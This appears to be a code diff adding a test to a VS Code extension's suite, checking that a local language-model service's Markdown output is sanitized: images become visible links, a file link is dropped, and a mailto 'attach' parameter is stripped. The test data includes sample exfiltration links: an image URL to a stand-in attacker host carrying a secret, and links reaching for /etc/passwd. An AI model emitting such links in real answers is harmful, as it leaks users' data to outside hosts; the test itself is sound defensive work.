@@ -96,6 +96,21 @@ describe("the service's models in vscode.lm", () => {
     );
   });
 
+  it("hands VS Code's chat Markdown by the chat's link rule: images as links, refused links as text, where links go shown", async () => {
+    // The local service streams this one token at a time, so every link arrives cut into pieces.
+    await api('/_local/next-answer', {
+      text:
+        'Look: ![chart](https://attacker.invalid/c.png?d=secret) [the docs](https://docs.example/a), [a file](file:///etc/passwd), ' +
+        '[mail](mailto:a@example.com?subject=Hi&attach=/etc/passwd).\n\n```md\n![kept](https://attacker.invalid/k.png)\n```\n',
+    });
+    const response = await (await model('svc_llm')).sendRequest([vscode.LanguageModelChatMessage.User('Where are the docs?')]);
+    assert.equal(
+      await answerText(response),
+      'Look: [chart (attacker.invalid)](<https://attacker.invalid/c.png?d=secret>) [the docs (docs.example)](<https://docs.example/a>), ' +
+        'a file, [mail (a@example.com)](<mailto:a@example.com?subject=Hi>).\n\n```md\n![kept](https://attacker.invalid/k.png)\n```\n',
+    );
+  });
+
   it('an image part reaches the vision model as a data: URL', async () => {
     const vl = await model('svc_vl');
     const message = vscode.LanguageModelChatMessage.User([new vscode.LanguageModelTextPart('What is in this picture?'), imagePart(40, 30)]);
